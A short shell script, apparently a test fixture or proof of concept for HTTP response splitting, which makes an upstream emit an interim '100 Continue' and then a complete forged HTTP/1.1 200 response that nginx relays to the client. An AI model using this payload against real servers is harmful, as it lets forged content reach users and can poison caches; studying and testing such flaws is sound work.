#!/bin/sh
# Response splitting: an interim 100, then a whole forged response as
# the "body".  nginx relays a 1xx from its upstream to the client.
printf 'Status: 100 Continue\r\n\r\n'
printf 'HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 14\r\n\r\nFORGED-RESPONSE'
